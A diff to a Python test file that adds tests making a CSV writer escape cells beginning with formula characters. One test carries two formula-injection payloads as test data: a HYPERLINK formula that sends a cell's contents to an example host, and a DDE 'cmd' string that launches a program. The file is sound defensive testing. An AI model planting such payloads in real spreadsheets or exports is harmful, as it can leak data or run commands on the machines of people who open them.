@@ -5,11 +5,13 @@ import logging
 from pathlib import Path
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from ecmf.data.label_table import Label, read_labels, write_labels
 from ecmf.errors import CorpusError
-from ecmf.storage.csv_rows import read_csv
+from ecmf.storage.csv_cells import is_number
+from ecmf.storage.csv_rows import read_csv, read_written
 from ecmf.storage.files import write_csv
 
 Table = list[dict[str, str]]
@@ -85,11 +87,34 @@ def test_empty_rows_of_a_spreadsheet_are_left_out_with_their_lines(
     assert "3 rows of empty fields left out: lines 3, 5, 6" in caplog.text
 
 
-@given(st.lists(st.lists(st.text(max_size=6), min_size=3, max_size=3), max_size=4))
-def test_what_is_written_is_read_back(tmp_path_factory: pytest.TempPathFactory, rows: list) -> None:
-    rows = [[cell.replace("\0", "") for cell in row] for row in rows]
+CELLS = st.text(st.sampled_from("'=+-@\t\r\n\"a1,. \uff1d"), max_size=6)
+
+
+@settings(deadline=None, max_examples=50)
+@given(st.lists(st.lists(CELLS, min_size=3, max_size=3), max_size=4))
+def test_what_is_written_is_read_back_and_begins_no_formula(
+    tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]]
+) -> None:
+    rows = [["a", *row[1:]] for row in rows]
     path = tmp_path_factory.mktemp("csv") / "table.csv"
-    write_csv(path, rows)
-    assert b"\r\n" not in path.read_bytes() or any("\r\n" in cell for row in rows for cell in row)
+    header = [f"column {number}" for number in range(3)]
+    write_csv(path, [header, *rows])
     with path.open(newline="", encoding="utf-8") as file:
-        assert list(csv.reader(file)) == rows
+        written = [cell for row in csv.reader(file) for cell in row]
+    begun = [cell for cell in written if cell.startswith(tuple("=+-@\t\r\uff1d"))]
+    assert all(map(is_number, begun))
+    found = [list(row.values()) for row in read_written(path)]
+    assert found == rows
+
+
+def test_a_formula_in_an_id_is_text_to_a_spreadsheet_and_numbers_stay_numbers(
+    tmp_path: Path,
+) -> None:
+    name = '=HYPERLINK("http://example.org/?"&A1)'
+    label = Label(name, "@sad", (0.5, 0.5), -0.5, "kept", "-1+cmd|' /c calc'!A0")
+    write_labels([label], ("@sad", "joy"), tmp_path / "labels.csv")
+    text = (tmp_path / "labels.csv").read_text()
+    assert (
+        "\n\"'=HYPERLINK(" in text and ",'@sad," in text and ",-0.5," in text and ",'-1+cmd" in text
+    )
+    assert read_labels(tmp_path / "labels.csv", [name], ("@sad", "joy")) == [label]
